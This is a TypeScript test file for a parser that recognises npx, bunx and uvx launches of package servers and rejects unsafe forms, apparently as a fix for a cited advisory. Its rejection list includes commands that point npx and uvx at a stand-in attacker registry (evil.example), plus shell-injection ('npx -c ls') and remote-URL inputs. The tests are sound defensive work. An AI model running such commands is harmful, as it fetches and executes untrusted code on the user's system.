import { describe, expect, test } from 'bun:test'
import { isProjectRun } from '../../../core/domain/program/project-run.ts'
import { readPackageRun } from '../../../core/domain/server/package-run.ts'

const read = (line: string) => {
  const [command = '', ...args] = line.split(' ')
  const run = readPackageRun(command, args)
  return run && [run.runner, run.specs.join(' '), run.program ?? '-', run.args.join(' ')].join(' | ')
}

describe('readPackageRun()', () => {
  test.each([
    ['npx -y @modelcontextprotocol/server-memory', 'npm | @modelcontextprotocol/server-memory | - | '],
    ['npx some-server@1.2.3 --port 5 -p x', 'npm | some-server@1.2.3 | - | --port 5 -p x'],
    ['npx --yes --package=@a/b@^2 -p c run-it --flag', 'npm | @a/b@^2 c | run-it | --flag'],
    ['npm exec --yes -- some-server a', 'npm | some-server | - | a'],
    ['bunx --bun some-server', 'bun | some-server | - | '],
    ['bun x some-server -y', 'bun | some-server | - | -y'],
    ['uvx mcp-server-time --local-timezone UTC', 'uv | mcp-server-time | mcp-server-time | --local-timezone UTC'],
    ['uvx mcp-server-time@0.6.2', 'uv | mcp-server-time==0.6.2 | mcp-server-time | '],
    ['uvx tool@latest', 'uv | tool | tool | '],
    ['uvx --from pkg[cli]==1.0 --with other serve', 'uv | pkg[cli]==1.0 other | serve | '],
    ['/usr/bin/npx -y some-server', 'npm | some-server | - | '],
    ['/usr/local/bin/uv tool run ruff', 'uv | ruff | ruff | '],
    ['uv tool run ruff check', 'uv | ruff | ruff | check'],
  ])('reads %s', (line, told) => {
    expect(read(line)).toBe(told)
  })

  test.each([
    ...['npx', 'npx -y', 'npx -c ls', 'npx --registry=http://evil.example some', 'npx -p', 'npx ./local'],
    ...['npx git+https://a.example/b.git', 'npx https://a.example/x.tgz', 'npx file:x', 'npx -p=-x y', 'npx ../x'],
    ...[
      'uvx --index-url http://evil.example x',
      'bun run x',
      'npm install x',
      'node x.js',
      'echo npx x',
      './npx x',
      '/home/server/bin/npx x',
    ],
  ])('leaves %s as it stands [CVE-2026-41497 GHSA-9qhq-v63v-fv3j]', line => {
    expect(read(line)).toBeUndefined()
  })
})

test.each<[boolean, string, string]>([
  [true, 'uv', 'run --directory /opt/package server.py'],
  [true, 'uv', '--directory /opt/package --quiet run server.py'],
  [true, '/usr/local/bin/uv', '--project=/opt/package run server.py'],
  [false, 'uv', 'tool run x'],
  [false, 'uv', '--directory run pip install x'],
  [false, 'uv', ''],
  [false, 'uvx', 'run'],
])('isProjectRun() is %p for %s %s', (expected, command, args) => {
  expect(isProjectRun(command, args === '' ? [] : args.split(' '))).toBe(expected)
})
